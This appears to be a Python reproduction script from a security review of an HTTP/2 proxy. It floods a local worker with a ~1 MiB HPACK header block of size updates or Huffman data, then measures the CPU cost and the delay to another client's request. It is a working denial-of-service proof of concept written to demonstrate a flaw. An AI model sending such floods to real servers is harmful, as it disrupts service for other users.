"""One HTTP/2 header block of ~1 MiB of HPACK dynamic-table-size updates (0x20, "size 0"),
against a real proxy (one worker, h2c).  blockcount.fields_over counts no size update, so the
block is walked, then decoded by hpack: the worker's CPU for that one block is measured from
/proc, and a bystander's request on another connection is timed meanwhile.
Run: cd /tmp/rev && /work/main/.venv/bin/python repro/h2_size_update_flood.py [huffman]
("huffman": one literal field whose value is ~1 MiB of Huffman code instead)."""
import os, sys, tempfile, threading, time
sys.path[:0] = [".", "tests"]
from hyperframe.frame import ContinuationFrame, HeadersFrame
from h2raw import RawClient
from proxyproc import Proxy
from rawbackend import RawBackend, serve_simple

def cpu(pid):
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")

backend = RawBackend(serve_simple)
proxy = Proxy(tempfile.mkdtemp(), [{"path": "/", "to": backend.url + "/"}], workers=1)
proxy.config["listen"] = [{"address": f"127.0.0.1:{proxy.port}", "http2": "h2c"}]
proxy.start()
try:
    (worker,) = proxy.worker_pids()
    bystander = RawClient(proxy.port)
    bystander.get(1, "/warm"); bystander.wait(lambda: 1 in bystander.statuses)
    attacker = RawClient(proxy.port)
    attacker.wait(lambda: True, timeout=0.2)
    before = cpu(worker)
    if "huffman" in sys.argv:   # one literal field, new name "x", a ~1 MiB Huffman value (0x00 bytes)
        from hpack.hpack import encode_integer
        n = 64 * 16384 - 16; ln = bytes(encode_integer(n, 7)); ln = bytes([ln[0] | 0x80]) + ln[1:]
        block = b"\x00\x01x" + ln + b"\x00" * n
    else:                       # ~1 MiB of dynamic table size updates to 0
        block = b"\x20" * (64 * 16384)
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = [HeadersFrame(1, pieces[0])] + [ContinuationFrame(1, c) for c in pieces[1:]]
    frames[-1].flags.add("END_HEADERS"); frames[0].flags.add("END_STREAM")
    payload = b"".join(f.serialize() for f in frames)
    t0 = time.monotonic()
    attacker.sock.sendall(payload)
    time.sleep(0.05)
    bystander.get(3, "/during")
    bystander.wait(lambda: 3 in bystander.statuses, timeout=30)
    print(f"bystander's GET on another connection answered {bystander.statuses[3]} after {time.monotonic()-t0:.2f} s")
    try:
        attacker.wait(lambda: attacker.goaway is not None or attacker.closed, timeout=30)
    except AssertionError:
        pass
    time.sleep(0.3)
    print(f"header block: {len(payload)} bytes in {len(frames)} frames; attacker got GOAWAY={attacker.goaway} closed={attacker.closed}")
    print(f"worker CPU for that one block: {cpu(worker) - before:.2f} s")
    print("error log tail:", proxy.error_text()[-400:])
finally:
    proxy.stop(); backend.close()
